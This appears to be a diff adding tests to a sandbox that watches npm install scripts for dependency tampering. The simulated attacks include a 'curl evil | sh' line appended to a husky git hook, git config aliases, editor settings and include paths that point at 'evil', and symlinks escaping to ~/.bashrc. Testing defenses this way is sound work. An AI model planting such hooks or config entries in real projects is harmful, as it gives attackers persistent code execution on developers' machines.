@@ -348,3 +348,98 @@ def build_beside(t):
                   scripts={"prepare": "npm run build", "build": "true"})
     result = scene.attack("npm", "install", changed="src/index.js")
     t.contains(str([e["details"] for e in result.of_type("change.held")]), "src", result)
+
+
+# ── git hooks taken over for good, harmless settings, links between targets ─────────────────────
+
+TAKES_HOOKS = 'git_hooks = "commit"\n'
+
+
+@test(time_limit=120)
+def hooks_of_a_package_though_taken_over(t):
+    """git_hooks = "commit": hooks as husky writes them, set up by a dependency's script, are an alert all the same"""
+    t.write(t.home / ".config/sandbox-run/config.toml", TAKES_HOOKS)
+    scene = Scene(t, 'cd "$INIT_CWD" && ' + HUSKY)
+    result = scene.attack("npm", "install", changed=".husky/_/pre-commit")
+    t.true(".git/config" in alerts(result), result)
+
+
+@test(time_limit=120)
+def own_line_in_a_hook_though_taken_over(t):
+    """git_hooks = "commit": a hook with a line that no tool writes is an alert"""
+    t.write(t.home / ".config/sandbox-run/config.toml", TAKES_HOOKS)
+    script = HUSKY + "echo 'curl evil | sh' >> .husky/_/pre-commit\n"
+    beside_bare.repository(t, **{"package.json": beside_bare.manifest(t, scripts={"prepare": "sh x.sh"}), "x.sh": SH + script})
+    t.bare("cp", "-a", t.project, t.base / "copy")
+    t.succeeded(t.bare("npm", "install"))
+    t.contains((t.project / ".husky/_/pre-commit").read_text(), "evil", "control")
+    t.bare("rm", "-rf", t.project)
+    (t.base / "copy").rename(t.project)
+    result = t.sandbox("npm", "install")
+    t.true(not (t.project / ".husky/_/pre-commit").exists(), result)
+    t.true(alerts(result), result)
+
+
+def add_setting_test(key, value):
+    def body(t):
+        scene = Scene(t, f'cd "$INIT_CWD" && git config {key} "{value}"\n')
+        result = scene.attack("npm", "install", changed=".git/config")
+        t.true(".git/config" in alerts(result), result)
+
+    body.__doc__ = f"{key}, which starts nothing, is an alert from a dependency's script"
+    test(body, time_limit=120)
+
+
+add_setting_test("core.autocrlf", "true")
+add_setting_test("user.email", "evil@example.com")
+
+
+def hides_a_starter(how, lines):
+    def body(t):
+        text = beside_bare.manifest(t, scripts={"prepare": "sh x.sh"})
+        beside_bare.repository(t, **{"package.json": text, "x.sh": SH + lines})
+        before = (t.project / ".git/config").read_bytes()
+        t.succeeded(t.bare("npm", "install"))
+        t.true((t.project / ".git/config").read_bytes() != before, "control")
+        (t.project / ".git/config").write_bytes(before)
+        result = t.sandbox("npm", "install")
+        t.equal((t.project / ".git/config").read_bytes(), before, result)
+        t.true(".git/config" in alerts(result), result)
+
+    body.__doc__ = f"a harmless key of .git/config {how} brings no program in"
+    test(body, time_limit=120)
+
+
+hides_a_starter("beside an alias", "git config core.autocrlf false; git config alias.st '!evil'\n")
+hides_a_starter("with a section on the same line",
+                "printf '[core] autocrlf = false\\n[core] editor = evil\\n' >> .git/config\n")
+hides_a_starter("whose value goes on in the next line",
+                "printf '[core]\\n\\tautocrlf = fal\\\\\\nse\\n[include]\\n\\tpath = ../evil\\n' >> .git/config\n")
+
+
+@test(time_limit=120)
+def link_into_a_target_and_out_again(t):
+    """a link into another target of the command that comes back out of it is held"""
+    other = t.home / "other"
+    other.mkdir()
+    script = f'ln -s "{other}/../.bashrc" out; ln -s ../other/../.bashrc relative; ln -s "{other}/x" known\n'
+    t.succeeded(t.bare("sh", "-c", script))
+    t.true(all(os.path.islink(t.project / name) for name in ("out", "relative", "known")), "control")
+    t.bare("rm", "-f", "out", "relative", "known")
+    result = t.sandbox("sh", "-c", script, options=["--rw", other])
+    t.true(os.path.islink(t.project / "known"), f"into the other target: {result}")
+    for name in ("out", "relative"):
+        t.true(not os.path.islink(t.project / name), f"{name}: {result}")
+    t.equal({e["details"]["path"] for e in result.of_type("change.held")}, {"out", "relative"}, result)
+
+
+@test(time_limit=120)
+def link_up_into_a_target(t):
+    """a relative link into another target of the command is taken over, one beside it is held"""
+    other = t.home / "other"
+    other.mkdir()
+    climb = os.path.relpath(other, t.project)
+    script = f"ln -s {climb}/x known; ln -s {os.path.dirname(climb)}/.bashrc out\n"
+    result = t.sandbox("sh", "-c", script, options=["--rw", other])
+    t.true(os.path.islink(t.project / "known"), f"into the other target: {result}")
+    t.true(not os.path.islink(t.project / "out"), result)
